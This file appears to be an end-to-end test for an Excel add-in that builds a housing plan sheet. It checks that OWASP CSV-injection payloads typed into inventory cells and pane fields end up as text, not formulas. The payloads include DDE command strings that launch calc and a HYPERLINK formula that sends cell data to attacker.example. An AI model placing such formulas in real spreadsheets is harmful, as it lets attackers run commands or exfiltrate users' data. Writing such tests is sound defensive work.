/**
 * (f) Text stays text in Excel (issue #9 item 4): an inventory whose owners and comuni are the
 * OWASP CSV-injection payloads, and the same payloads typed in the pane as the Ambito and the
 * additional category. "Crea piano" in the built add-in, on the simulated host (which turns such a
 * string into a formula unless the cell is formatted as text, as Excel does): every payload is in
 * the plan sheet as text, and no cell holds a formula the layout did not write.
 */
import type { SimHost } from '../sim/host';
import { pane, texts, useBrowser } from './support';

const browser = useBrowser();
const { app } = texts('it');

const PAYLOADS = [
  "=cmd|' /C calc'!A0",
  '+SUM(1)',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=HYPERLINK("http://attacker.example/?x="&A1;"Clicca")',
];

const HOSTILE = {
  sheet: 'Ostile',
  table: 'InventarioOstile',
  grid: [
    ['Codice alloggio', 'Ente proprietario', 'Comune', 'Stato alloggio', 'Destinazione'],
    ...PAYLOADS.map((payload, index) => [
      `H-${index + 1}`,
      payload,
      PAYLOADS[(index + 1) % PAYLOADS.length],
      'libero',
      'SAP',
    ]),
  ],
};

function addHostileInventory(sim: SimHost, arg: unknown): void {
  const fixture = arg as typeof HOSTILE;
  // Text as the user typed it (with Excel's leading apostrophe), so it is not a formula there.
  sim.workbook.addSheet(fixture.sheet, [fixture.grid[0]]).setText('A2', fixture.grid.slice(1));
  sim.workbook.addTable(fixture.sheet, fixture.table, `A1:E${fixture.grid.length}`);
}

test('(f) OWASP payloads from the inventory and typed in the pane stay text in the plan sheet', async () => {
  const { page } = await browser.open('f-text-stays-text', { setup: { fn: addHostileInventory, arg: HOSTILE } });
  const root = pane(page);
  const address = `${HOSTILE.sheet}!A1:E${HOSTILE.grid.length}`;
  await root
    .getByRole('combobox', { name: app.sourceLabel })
    .selectOption({ label: app.sourceTable({ name: HOSTILE.table, address, rows: HOSTILE.grid.length - 1 }) });
  await root.getByRole('button', { name: app.readButton, exact: true }).click();
  await root.getByText(app.readDone({ address, rows: HOSTILE.grid.length - 1 })).waitFor();
  await root.getByRole('textbox', { name: new RegExp(`^${app.ambitoLabel}`) }).fill(PAYLOADS[0]);
  await root.getByRole('textbox', { name: new RegExp(`^${app.capofilaLabel}`) }).fill(PAYLOADS[3]);
  await root.getByRole('textbox', { name: new RegExp(`^${app.categoriaNomeLabel}`) }).fill(PAYLOADS[1]);
  await root.getByRole('button', { name: app.createButton, exact: true }).click();
  const created = await root.getByText(/^Creato il foglio «/).textContent();
  const sheetName = /«(.+)»/.exec(created ?? '')?.[1] ?? '';

  const cells = await page.evaluate((name) => {
    const sheet = window.__sim!.workbook.sheet(name);
    const used = sheet.used();
    const found: { address: string; value: unknown; formula: string | undefined }[] = [];
    used.forEach((row, r) =>
      row.forEach((_, c) => {
        let letters = '';
        for (let n = c + 1; n > 0; n = Math.floor((n - 1) / 26))
          letters = String.fromCharCode(65 + ((n - 1) % 26)) + letters;
        const cell = sheet.cell(`${letters}${r + 1}`);
        found.push({ address: `${letters}${r + 1}`, value: cell.value, formula: cell.formula });
      }),
    );
    return found;
  }, sheetName);

  const textCells = cells.filter((cell) => cell.formula === undefined).map((cell) => String(cell.value));
  for (const payload of PAYLOADS) expect(textCells.some((text) => text.includes(payload))).toBe(true);
  const formulas = cells.filter((cell) => cell.formula !== undefined).map((cell) => cell.formula as string);
  expect(formulas.length).toBeGreaterThan(10);
  // The layout's own formulas only: none carries a payload.
  for (const formula of formulas) expect(formula).not.toMatch(/cmd\||HYPERLINK|attacker/);
});
